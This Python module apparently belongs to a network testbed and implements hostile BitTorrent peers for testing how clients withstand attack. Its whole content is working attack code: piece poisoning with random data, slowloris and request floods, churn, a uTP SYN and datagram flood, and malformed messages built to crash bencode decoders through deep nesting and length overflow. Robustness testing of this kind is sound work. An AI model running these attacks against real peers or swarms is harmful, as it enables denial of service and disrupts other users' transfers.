#!/usr/bin/env python3
"""Hostile BitTorrent peers for the attacked swarm (`netbed.attackswarm`).

    python3 -m netbed.attackers KIND --info-hash HEX --pieces N --piece-len L
        --listen IP:PORT --targets IP:PORT,... [--tracker URL] [--max-seconds S]

One process runs one KIND over TCP (BEP 3) and, for `utp`, UDP:

| kind | what it does |
|---|---|
| `badpiece` | announces every piece, unchokes, answers every request with random bytes (the piece fails its SHA-1) |
| `liar` | announces every piece, unchokes, never answers a request (keep-alives only) |
| `garbage` | completes the handshake, then answers with random unframed bytes |
| `slowloris` | keeps 40 connections per target open, sending the handshake one byte every 4 s |
| `flood` | handshakes, asks for every block of every piece again and again and never reads |
| `malformed` | one broken message per connection: an oversized length, a bad length, a have out of range, a wrong-size bitfield, a 1 MiB request, extended handshakes that once crashed the decoder |
| `churn` | connects, handshakes and leaves, 10 times a second, each time a new peer id |
| `utp` | random datagrams and SYNs with random connection ids to every target's uTP port, 200 a second |

Attackers that serve (`badpiece`, `liar`, `garbage`) announce themselves to the tracker so that
honest peers dial them, and also dial every target; the others only dial. Each reconnects
1 s after a connection ends, so a client that bans an address sees it come back. Prints one
JSON line per 10 s (`{"kind", "t", "connections", "refused", "bytes_sent"}`) and a summary.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import socket
import struct
import sys
import time
import urllib.parse
import urllib.request

PROTOCOL = b"\x13BitTorrent protocol"
BLOCK = 16384
KINDS = ["badpiece", "liar", "garbage", "slowloris", "flood", "malformed", "churn", "utp"]


class Stats:
    def __init__(self, kind: str):
        self.kind, self.t0 = kind, time.monotonic()
        self.connections = self.refused = self.bytes_sent = 0

    def line(self, event: str) -> str:
        return json.dumps({"event": event, "kind": self.kind,
                           "t": round(time.monotonic() - self.t0, 1),
                           "connections": self.connections, "refused": self.refused,
                           "bytes_sent": self.bytes_sent})


def handshake(info_hash: bytes, peer_id: bytes) -> bytes:
    reserved = bytes([0, 0, 0, 0, 0, 0x10, 0, 0x04])  # BEP 10 and BEP 6
    return PROTOCOL + reserved + info_hash + peer_id


def frame(msg_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IB", 1 + len(payload), msg_id) + payload


def new_peer_id() -> bytes:
    return b"-XX0001-" + bytes(random.choice(b"0123456789abcdef") for _ in range(12))


async def read_frames(r: asyncio.StreamReader):
    """Yields (id, payload) of each frame; stops at end of stream."""
    while True:
        head = await r.readexactly(4)
        n, = struct.unpack(">I", head)
        if n == 0:
            continue
        body = await r.readexactly(min(n, 1 << 20))
        yield body[0], body[1:]


class Attacker:
    def __init__(self, a):
        self.a = a
        self.kind = a.kind
        self.info_hash = bytes.fromhex(a.info_hash)
        self.stats = Stats(a.kind)
        self.targets = [t for t in a.targets.split(",") if t]
        self.deadline = time.monotonic() + a.max_seconds
        # The listening server of the serving kinds, kept for the run's length.
        self.server = None

    def alive(self) -> bool:
        return time.monotonic() < self.deadline

    def bitfield_all(self) -> bytes:
        n = self.a.pieces
        b = bytearray(b"\xff" * ((n + 7) // 8))
        if n % 8:
            b[-1] = (0xFF << (8 - n % 8)) & 0xFF
        return bytes(b)

    async def send(self, w: asyncio.StreamWriter, data: bytes) -> None:
        w.write(data)
        self.stats.bytes_sent += len(data)
        await w.drain()

    async def open_and_handshake(self, host: str, port: int, peer_id: bytes | None = None):
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
        self.stats.connections += 1
        await self.send(w, handshake(self.info_hash, peer_id or new_peer_id()))
        theirs = await asyncio.wait_for(r.readexactly(68), 15)
        if theirs[:20] != PROTOCOL:
            raise ConnectionError("not BitTorrent")
        return r, w

    # ---- serving attackers: a session after both handshakes
    async def serve(self, r, w) -> None:
        await self.send(w, frame(5, self.bitfield_all()) + frame(1))
        if self.kind == "garbage":
            await asyncio.sleep(1)
            await self.send(w, os.urandom(2000))
            await asyncio.sleep(2)
            return
        async def keepalive():
            while True:
                await asyncio.sleep(30)
                await self.send(w, b"\0\0\0\0")
        ka = asyncio.create_task(keepalive())
        try:
            async for mid, p in read_frames(r):
                if mid == 6 and len(p) == 12 and self.kind == "badpiece":
                    index, begin, length = struct.unpack(">III", p)
                    await self.send(w, frame(7, struct.pack(">II", index, begin)
                                             + os.urandom(min(length, BLOCK))))
                elif mid == 2:
                    await self.send(w, frame(1))
        finally:
            ka.cancel()

    async def on_incoming(self, r, w) -> None:
        self.stats.connections += 1
        try:
            theirs = await asyncio.wait_for(r.readexactly(68), 15)
            if theirs[:20] != PROTOCOL:
                return
            await self.send(w, handshake(self.info_hash, new_peer_id()))
            await self.serve(r, w)
        except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError, ConnectionError):
            pass
        finally:
            w.close()

    async def dial_loop(self, target: str, session) -> None:
        host, port = target.rsplit(":", 1)
        while self.alive():
            try:
                await session(host, int(port))
            except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError,
                    ConnectionError):
                self.stats.refused += 1
            await asyncio.sleep(1.0)

    async def serving_session(self, host, port):
        r, w = await self.open_and_handshake(host, port)
        try:
            await self.serve(r, w)
        finally:
            w.close()

    async def flood_session(self, host, port):
        r, w = await self.open_and_handshake(host, port)
        try:
            await self.send(w, frame(15) + frame(2))  # have none, interested
            reqs = bytearray()
            for i in range(self.a.pieces):
                for b in range(0, self.a.piece_len, BLOCK):
                    reqs += frame(6, struct.pack(">III", i, b, BLOCK))
            reqs += frame(6, struct.pack(">III", self.a.pieces + 5, 0, BLOCK))
            while self.alive():
                # Never read: whatever the target answers piles up on its side.
                w.write(reqs)
                self.stats.bytes_sent += len(reqs)
                await asyncio.wait_for(w.drain(), 30)
        finally:
            w.close()

    def malformed_messages(self) -> list[bytes]:
        n = self.a.pieces
        deep = b"l" * 8000 + b"e" * 8000
        return [
            struct.pack(">I", 0x7FFFFFFF) + b"\x07",
            struct.pack(">IB", 3, 4) + b"\0\0",               # have with 2 bytes
            frame(4, struct.pack(">I", n + 100)),               # have out of range
            frame(5, b"\xff" * ((n + 7) // 8 + 3)),             # bitfield of the wrong size
            frame(6, struct.pack(">III", 0, 0, 1 << 20)),        # 1 MiB request
            frame(20, b"\0" + deep),                             # deep nesting
            frame(20, b"\0d1:v18446744073709551615:xxxxe"),      # string length overflow
            frame(99, os.urandom(5000)),                         # unknown id, big payload
            frame(7, b"\0\0"),                                   # piece without header
        ]

    async def malformed_session(self, host, port):
        msgs = self.malformed_messages()
        m = msgs[self.stats.connections % len(msgs)]
        r, w = await self.open_and_handshake(host, port)
        try:
            await self.send(w, m)
            await asyncio.wait_for(r.read(65536), 5)
        finally:
            w.close()

    async def churn_session(self, host, port):
        r, w = await self.open_and_handshake(host, port, new_peer_id())
        w.close()
        await asyncio.sleep(0.1)

    async def slowloris_target(self, target: str) -> None:
        host, port = target.rsplit(":", 1)
        hs = handshake(self.info_hash, new_peer_id())

        async def one():
            while self.alive():
                try:
                    r, w = await asyncio.wait_for(asyncio.open_connection(host, int(port)), 10)
                    self.stats.connections += 1
                    for byte in hs:
                        w.write(bytes([byte]))
                        self.stats.bytes_sent += 1
                        await w.drain()
                        await asyncio.sleep(4)
                    w.close()
                except (OSError, asyncio.TimeoutError):
                    self.stats.refused += 1
                    await asyncio.sleep(1)
        await asyncio.gather(*(one() for _ in range(40)))

    async def utp_noise(self) -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setblocking(False)
        addrs = [(h, int(p)) for h, p in (t.rsplit(":", 1) for t in self.targets)]
        k = 0
        while self.alive():
            for addr in addrs:
                if k % 2:
                    d = os.urandom(random.randint(0, 200))
                else:  # a SYN with a random connection id: a half-open connection each
                    d = bytes([0x41, 0]) + os.urandom(2) + os.urandom(12) + b"\0\x01\0\0"
                try:
                    s.sendto(d, addr)
                    self.stats.bytes_sent += len(d)
                except OSError:
                    self.stats.refused += 1
                k += 1
            await asyncio.sleep(1 / 200)

    def announce(self) -> None:
        if not self.a.tracker:
            return
        host, port = self.a.listen.rsplit(":", 1)
        q = urllib.parse.urlencode({"info_hash": self.info_hash, "peer_id": new_peer_id(),
                                    "port": port, "uploaded": 0, "downloaded": 0, "left": 0,
                                    "compact": 1, "event": "started"})
        try:
            urllib.request.urlopen(f"{self.a.tracker}?{q}", timeout=5).read()
        except OSError as e:
            print(json.dumps({"event": "announce_failed", "error": str(e)}), flush=True)

    async def report(self) -> None:
        while self.alive():
            await asyncio.sleep(10)
            print(self.stats.line("progress"), flush=True)

    async def main(self) -> None:
        tasks = [asyncio.create_task(self.report())]
        k = self.kind
        if k in ("badpiece", "liar", "garbage"):
            host, port = self.a.listen.rsplit(":", 1)
            self.server = await asyncio.start_server(self.on_incoming, host, int(port))
            self.announce()
            tasks += [asyncio.create_task(self.dial_loop(t, self.serving_session))
                      for t in self.targets]
        elif k == "flood":
            tasks += [asyncio.create_task(self.dial_loop(t, self.flood_session))
                      for t in self.targets]
        elif k == "malformed":
            tasks += [asyncio.create_task(self.dial_loop(t, self.malformed_session))
                      for t in self.targets]
        elif k == "churn":
            tasks += [asyncio.create_task(self.dial_loop(t, self.churn_session))
                      for t in self.targets]
        elif k == "slowloris":
            tasks += [asyncio.create_task(self.slowloris_target(t)) for t in self.targets]
        elif k == "utp":
            tasks.append(asyncio.create_task(self.utp_noise()))
        await asyncio.sleep(max(0.0, self.deadline - time.monotonic()))
        for t in tasks:
            t.cancel()
        print(self.stats.line("summary"), flush=True)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("kind", choices=KINDS)
    ap.add_argument("--info-hash", required=True)
    ap.add_argument("--pieces", type=int, required=True)
    ap.add_argument("--piece-len", type=int, required=True)
    ap.add_argument("--listen", required=True, help="IP:PORT to listen on (serving kinds)")
    ap.add_argument("--targets", required=True, help="honest peers, IP:PORT,...")
    ap.add_argument("--tracker", default=None, help="announce URL (serving kinds)")
    ap.add_argument("--max-seconds", type=float, default=600.0)
    a = ap.parse_args(argv)
    try:
        asyncio.run(Attacker(a).main())
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
